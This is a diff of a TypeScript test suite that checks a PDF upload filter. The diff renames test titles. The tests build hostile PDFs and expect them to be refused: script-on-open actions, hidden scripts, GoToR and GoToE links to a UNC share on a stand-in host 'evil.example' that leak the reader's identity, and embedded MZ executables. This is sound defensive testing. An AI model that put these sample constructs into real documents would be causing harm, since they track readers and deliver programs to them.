@@ -23,11 +23,11 @@ const flate = "/Filter /FlateDecode";
 const encryption = "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>";
 const closedStream = "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\xff\x00\x01endstream";
 const wrongSum = (packed: Buffer) => Buffer.concat([packed.subarray(0, -1), Buffer.from([packed.at(-1)! ^ 255])]);
-/** Readers use what they could unpack before the damage. */
+/** Readers use whatever they could decompress before the damage. */
 const wrongEnd = (packed: Buffer) =>
   Buffer.concat([deflateSync(inflateSync(packed), { finishFlush: constants.Z_SYNC_FLUSH }), Buffer.from([7])]);
 
-describe("nobody runs a script or a program when a PDF is opened", () => {
+describe("an attacker cannot run a script or a program when a PDF is opened", () => {
   test.each<[string, Buffer]>([
     ["by an action at opening", aPdfOf("<< /Type /Catalog /OpenAction 2 0 R >>", script)],
     ["by an action in the catalog", aPdfOf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>")],
@@ -59,7 +59,7 @@ describe("nobody runs a script or a program when a PDF is opened", () => {
     ],
     ["behind a comment", aPdfOf(catalog, `% (stream\n${script}`)],
     ["behind a number and a comment", Buffer.from(`%PDF-1.7\n7 0 % x\nobj${script}\nendobj\n`)],
-  ])("%s", async (_, bytes) => {
+  ])("rejects a script or program %s", async (_, bytes) => {
     expect(await send(bytes)).toEqual(refused);
   });
 
@@ -74,12 +74,12 @@ describe("nobody runs a script or a program when a PDF is opened", () => {
     ["an encrypted stream of objects", aPdfOf(catalog, encryption, "<< /Encrypt 2 0 R >>", closedStream)],
     ["a packed stream whose checksum is wrong", aPdfOf(catalog, objectStream(["<< /Type /Page >>"], flate, wrongSum))],
     ["nothing but noise", aPdf(3_000_000)],
-  ])("a PDF with %s stays", async (_, bytes) => {
+  ])("accepts a PDF with %s", async (_, bytes) => {
     expect(await send(bytes)).toEqual(taken);
   });
 });
 
-describe("nobody learns what a reader of a PDF types, or who the reader is", () => {
+describe("an attacker cannot learn what a reader types into a PDF, or who the reader is", () => {
   const goTo = (file: string) => `<< /S /GoToR /F ${file} /D [0 /Fit] >>`;
   const unc = "(\\\\\\\\evil.example\\\\share\\\\a.pdf)";
   test.each<[string, Buffer]>([
@@ -92,7 +92,7 @@ describe("nobody learns what a reader of a PDF types, or who the reader is", () 
     ["by one named in another object", aPdfOf(catalog, goTo("3 0 R"), unc)],
     ["by one named in a packed object", aPdfOf(catalog, goTo("10 0 R"), objectStream([unc]))],
     ["by a file inside one of another machine", aPdfOf(catalog, `<< /S /GoToE /F << /UF ${unc} >> >>`)],
-  ])("%s", async (_, bytes) => {
+  ])("rejects tracking %s", async (_, bytes) => {
     expect(await send(bytes)).toEqual(refused);
   });
 
@@ -112,12 +112,12 @@ describe("nobody learns what a reader of a PDF types, or who the reader is", () 
     ["a file of the web", aPdfOf(catalog, "<< /Type /Filespec /FS /URL /F (https://www.example.com) >>")],
     ["a link to the document beside it", aPdfOf(catalog, goTo("(appendix.pdf)"))],
     ["where it was printed from in its title", aPdfOf(catalog, `<< /Title ${unc} >>`)],
-  ])("a PDF with %s stays", async (_, bytes) => {
+  ])("accepts a PDF with %s", async (_, bytes) => {
     expect(await send(bytes)).toEqual(taken);
   });
 });
 
-describe("nobody starts a program that was hidden in a PDF", () => {
+describe("an attacker cannot deliver a program hidden in a PDF", () => {
   const named = (name: string) => `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 3 0 R >> >>`;
   const program = Buffer.alloc(512);
   program.write("MZ", 0, "latin1");
@@ -140,7 +140,7 @@ describe("nobody starts a program that was hidden in a PDF", () => {
       "packed as no program does",
       aPdfOf(catalog, named("a.dat"), "<< /Type /EmbeddedFile /Filter /ASCIIHexDecode >>\nstream\n4d5a>\nendstream"),
     ],
-  ])("%s", async (_, bytes) => {
+  ])("rejects a hidden program %s", async (_, bytes) => {
     expect(await send(bytes)).toEqual(refused);
   });
 
@@ -152,11 +152,11 @@ describe("nobody starts a program that was hidden in a PDF", () => {
     ["another PDF", aPdfOf(catalog, named("terms.pdf"), embeddedFile(aPdfOf(catalog)))],
     ["a document", aPdfOf(catalog, named("terms.docx"), embeddedFile(aDocx()))],
     ["a page that begins like a program", aPdfOf(catalog, embeddedFile("MZ 1 0 0 1 0 0 cm", ""))],
-  ])("a PDF with %s stays", async (_, bytes) => {
+  ])("accepts a PDF with %s", async (_, bytes) => {
     expect(await send(bytes)).toEqual(taken);
   });
 });
 
-test("what was refused leaves nothing", async () => {
+test("a rejected file leaves nothing behind", async () => {
   await expect.poll(orphans).toEqual(none);
 });
